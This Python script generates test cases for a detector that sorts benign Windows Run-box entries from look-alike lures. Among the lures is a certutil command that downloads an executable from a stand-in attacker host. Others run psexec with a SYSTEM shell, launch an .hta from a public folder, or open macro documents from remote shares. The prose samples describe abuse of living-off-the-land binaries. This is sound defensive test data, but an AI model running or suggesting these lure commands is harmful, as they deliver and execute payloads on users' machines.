"""Writes tests/data/cases/b18benign.jsonl: the kinds of ordinary text BLIND-18's benign misses
stand for (helper "b18benign", 2026-12-07 afternoon), written here from general knowledge of such
texts, each cleared beside the look-alikes that try to abuse the clearing and must stay flagged.

    python tests/data/cases/make_b18benign.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid, *.local, *.corp);
no blind set's text, lure collection or other detector's fixture is copied. Each line is {id,
text, expect, technique, platform, source, target}.

Cleared here, by kind (resources/runbox.yaml `opens`, runbox._local_file_shape, prose):

- `run-box-opens-file`: Windows' own viewer given a file here (`notepad "%USERPROFILE%\\...\\x.txt"`),
  Office given a document without macros here or on a share of the local network, templates
  included (.dotx .xltx .potx), from any page: the file's path alone opens the same. A share of a
  public host or an address, WebDAV, a macro-enabled file, an address, a switch that prints or
  runs stay a command.
- `run-box-opens-folder`: Explorer selecting a file or opening a folder here. A program file
  given to Explorer, a share, a variable naming another computer stay a command.
- `run-box-opens-page`: a browser on a web page in a private or new window or one of its own
  profiles. --app, --headless, an extension, a profile folder elsewhere, a file address, a host
  anyone publishes on, a fake check's words stay a command.
- `run-box-opens-console`: Windows' own consoles in one of their modes or aimed at a computer of
  the local network; Remote Desktop's window or a connection to such a computer. A public name or
  address, a disguised address, a share, a .rdp file stay a command.
- `run-box-opens-report`: System Information or the DirectX tool writing a report to a text file
  here. A share, a Startup folder, a script's extension, a public computer stay a command.
- `run-box-own-program-file`: a program (.exe) by its path in a folder of the person's own
  (C:\\Tools, D:\\PortableApps). One in the profile, Downloads, Temp, Public, ProgramData or a
  drive's root, a script, a climb out of the folder, a program given arguments stay typed only.
- `run-box-control-library`: Indexing Options by its library (`control srchadmin.dll`). A path,
  a share, an entry point, another word stay a command.
- `prose-switches-in-parentheses`: a description of a living-off-the-land program that names its
  switches in parentheses ("used to download files (-urlcache -split -f)"). An address in the
  parentheses, a command after the sentence, the command itself stay flagged.
- `run-box-still-a-command`: what a how-to page writes for the Run box that runs a shell, a
  script host or an editor's tasks, or shuts the computer down, stays a command from a page
  (issue 9); typed, it is the person's own.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b18benign.jsonl")
RUN = "run_dialog"
BAR = "explorer_bar"
UNKNOWN = "unknown"
TERMINAL = "terminal"
KB = "https://kb.fabrikam.example/windows/run-box-shortcuts"
WIKI = "https://wiki.contoso.local/it/how-to/admin-tools"
TIPS = "https://www.pc-tips-weekly.example/windows-run-commands"
DOCS = "https://docs.tailwind-it.test/windows/remote-desktop"
LURE = "https://verify-human.check-session.test/captcha"
LURE2 = "https://cdn-check.umbra-stage.test/verify/step2"
PAGES = (KB, WIKI, TIPS, DOCS)


def cleared(book: Book, tech: str, texts: list[str], lures: list[str], target: str = RUN) -> None:
    for i, text in enumerate(texts):
        book.add(tech, text, "not_flagged", "windows", target, PAGES[i % len(PAGES)])
    for i, text in enumerate(lures):
        book.add(tech, text, "malicious", "windows", target, (LURE, LURE2, KB)[i % 3])


def opens_file(book: Book) -> None:
    cleared(
        book,
        "run-box-opens-file",
        [
            r'notepad "%USERPROFILE%\Documents\standup notes 2026-12-08.txt"',
            r"notepad.exe C:\Windows\System32\drivers\etc\hosts",
            r"wordpad D:\Handbook\onboarding.rtf",
            r'mspaint "%USERPROFILE%\Pictures\Screenshots\Screenshot 2026-12-01 101500.png"',
            r'excel "\\fs-berlin-01\controlling\Forecast FY27 v2.xlsx"',
            r"winword \\nas.lan\vorlagen\Briefkopf.dotx",
            r'excel /r "\\files01.corp\finance\Rates 2027.xltx"',
            r'powerpnt /s "\\intra-fs\marketing\Town hall Q1.pptx"',
            r"winword D:\Contracts\NDA-template.docx",
            r'visio "\\fs02\network\Floor 3 cabling.vsdx"',
        ],
        [
            r"notepad /p C:\Windows\System32\drivers\etc\hosts",
            r"notepad \\203.0.113.7\share\readme.txt",
            r"mspaint https://cdn.umbra-stage.test/x.png",
            r'excel "\\files.umbra-stage.test\pub\Invoice 4410.xlsx"',
            r"winword C:\Users\Public\Documents\invoice.docm",
            r"excel \\10.0.0.5\pub\rates.xlsm",
            r'winword "\\fs01@SSL\DavWWWRoot\offer.docx"',
            r"excel https://cdn.umbra-stage.test/book.xlsx",
            r"powerpnt /s \\3325256811\x\deck.pptx",
            r"winword \\fs01\hr\letter.docx C:\Users\Public\x.exe",
        ],
    )


def opens_folder(book: Book) -> None:
    cleared(
        book,
        "run-box-opens-folder",
        [
            r"explorer.exe /select,C:\Users\jonas\Downloads\Reisekosten-2026.pdf",
            r'explorer /select,"%USERPROFILE%\Documents\Tax return 2026.pdf"',
            r"explorer /e,D:\Projects\2027",
            r"explorer /n,%USERPROFILE%\OneDrive\Shared",
            r'explorer "C:\ProgramData\Microsoft\Windows\Start Menu\Programs"',
        ],
        [
            r"explorer C:\Users\Public\fix.hta",
            r"explorer /e,\\files.umbra-stage.test\pub",
            r"explorer /select,\\203.0.113.7\x\a.pdf",
            r"explorer /n,%LOGONSERVER%\netlogon",
            r"explorer /e,C:\Users\Public\Documents C:\x.exe",
        ],
    )


def opens_page(book: Book) -> None:
    cleared(
        book,
        "run-box-opens-page",
        [
            "msedge --inprivate https://portal.corp.example/expenses",
            'msedge --profile-directory="Profile 3"',
            "chrome --incognito https://status.fabrikam.example/",
            "firefox -P testing -no-remote",
            "firefox --private-window https://wiki.contoso.local/it",
            "chrome --profile-directory=Default https://mail.fabrikam.example/",
        ],
        [
            "msedge --app=https://login.corp-verify.test",
            "chrome --load-extension=C:\\Users\\Public\\ext",
            "firefox -profile C:\\Users\\Public\\p -no-remote",
            "msedge --inprivate https://verify-human.check-session.test/captcha",
            "chrome --headless https://portal.corp.example",
            "msedge https://files.umbra-stage.test/fix.hta",
        ],
    )


def opens_console(book: Book) -> None:
    cleared(
        book,
        "run-box-opens-console",
        [
            "wf.msc /s",
            "services.msc /32",
            r"mmc compmgmt.msc /computer=\\PC-0412",
            "diskmgmt.msc /computer=fs02.corp",
            "eventvwr.msc /computer=10.1.20.30",
            "mstsc /v:ts01.contoso.local",
            "mstsc /v:192.168.10.20:3390 /f",
            "mstsc.exe /v:jump01 /admin /multimon",
            "mstsc /v:172.20.1.5 /w:1600 /h:900",
            "mstsc /admin",
        ],
        [
            "compmgmt.msc /computer=203.0.113.7",
            "mstsc /v:rdp.umbra-stage.test",
            "mstsc /v:198.51.100.23 /admin",
            "mstsc /v:0xcb007105",
            r"mmc \\203.0.113.7\s\compmgmt.msc",
            r"mstsc \\files.umbra-stage.test\x\vpn.rdp",
            "eventvwr.msc /computer=logs.umbra-stage.test",
        ],
    )


def opens_report(book: Book) -> None:
    cleared(
        book,
        "run-box-opens-report",
        [
            r"msinfo32 /nfo C:\Temp\%COMPUTERNAME%.nfo",
            r'msinfo32 /report "%USERPROFILE%\Desktop\system info.txt"',
            r"dxdiag /t %USERPROFILE%\Desktop\dxdiag.txt",
            r"dxdiag /x D:\Support\dx-%USERNAME%.xml",
            "msinfo32 /computer ws-0101",
        ],
        [
            r"msinfo32 /report \\203.0.113.9\up\x.txt",
            r'dxdiag /t "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\d.txt"',
            r"msinfo32 /nfo C:\x\run.bat",
            "msinfo32 /computer 203.0.113.9",
            r"msinfo32 /nfo %LOGONSERVER%\x.nfo",
        ],
    )


def own_program_file(book: Book) -> None:
    cleared(
        book,
        "run-box-own-program-file",
        [
            r"C:\Tools\SysinternalsSuite\Autoruns64.exe",
            r'"D:\PortableApps\KeePass Portable\KeePassPortable.exe"',
            r"E:\Utils\putty\putty.exe",
            r"%SystemDrive%\Tools\WinMerge\WinMergeU.exe",
            r"C:\bin\ripgrep\rg.exe",
        ],
        [
            r"C:\Users\Public\Autoruns64.exe",
            r"%USERPROFILE%\Downloads\Verify-Session.exe",
            r"C:\Tools\fix.bat",
            r"C:\update.exe",
            r"D:\Downloads\setup.exe",
            r"C:\ProgramData\svc\svchost.exe",
            r"C:\Tools\..\Users\Public\x.exe",
            r"C:\Tools\SysinternalsSuite\psexec.exe -s cmd",
        ],
    )


def control_library(book: Book) -> None:
    cleared(
        book,
        "run-box-control-library",
        [
            "control srchadmin.dll",
            "control.exe srchadmin.dll",
            "CONTROL SRCHADMIN.DLL",
            r"%windir%\system32\control.exe srchadmin.dll",
            r"C:\Windows\System32\control.exe srchadmin.dll",
        ],
        [
            r"control C:\Users\Public\srchadmin.dll",
            "control srchadmin.dll,Start",
            r"control \\files.umbra-stage.test\x\srchadmin.dll",
            "control srchadmin.dll extra",
            r"control %TEMP%\srchadmin.dll",
        ],
    )


def prose_switches(book: Book) -> None:
    tech = "prose-switches-in-parentheses"
    src = "https://lolbins-notes.fabrikam.example/binaries"
    for text in (
        "certutil.exe is a built-in program for certificates. Attackers can use it to fetch files "
        "(-urlcache -split -f) and to decode payloads (-decode).",
        "bitsadmin.exe is a legacy tool that manages transfer jobs; it was abused to pull payloads "
        "(/transfer /download /priority) before PowerShell took over.",
        "regsvr32.exe can be made to run a scriptlet without registering anything (/s /n /u /i) "
        "which is why defenders watch it.",
        "msiexec is used by installers and can install quietly (/i /qn) from a package.",
        "mshta.exe is a host for HTML applications and has no switches worth naming (see below) "
        "but it runs scripts from remote pages.",
        "wmic was deprecated in Windows 11 and can still list processes (/node /format) on "
        "remote hosts.",
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, src)
    for i, text in enumerate(
        (
            "certutil.exe is abused to fetch files (-urlcache -split -f "
            "https://cdn.umbra-stage.test/a.exe).",
            "certutil.exe can download files (-urlcache -split -f) & certutil -urlcache -split -f "
            "https://cdn.umbra-stage.test/a.exe a.exe",
            "certutil -urlcache -split -f https://cdn.umbra-stage.test/a.exe %TEMP%\\a.exe",
        )
    ):
        book.add(tech, text, "flagged", "windows", (UNKNOWN, UNKNOWN, TERMINAL)[i], LURE)


def still_a_command(book: Book) -> None:
    tech = "run-box-still-a-command"
    for i, text in enumerate(
        (
            r"cmd /k cd /d D:\repos\payroll",
            r"powershell_ise D:\Scripts\Reset-Printers.ps1",
            r"code D:\repos\payroll",
            'shutdown /r /t 600 /c "Patching tonight"',
            r"wt -d D:\repos\payroll",
        )
    ):
        book.add(tech, text, "malicious", "windows", RUN, PAGES[i % len(PAGES)])
        if "_ise" not in text:  # (typed, ISE given a script is no editor of runbox.EDITORS)
            book.add(tech, text, "not_flagged", "windows", RUN, None)


def build() -> list[dict[str, str]]:
    book = Book("b18b")
    opens_file(book)
    opens_folder(book)
    opens_page(book)
    opens_console(book)
    opens_report(book)
    own_program_file(book)
    control_library(book)
    prose_switches(book)
    still_a_command(book)
    # the Explorer address bar takes the same entries as the Run box
    for text in (r"explorer /select,D:\Scans\2026\receipt-0412.pdf", "wf.msc /s"):
        book.add("explorer-bar-opens", text, "not_flagged", "windows", BAR, TIPS)
    return book.cases


CASES = build()

if __name__ == "__main__":
    write(OUT, CASES)
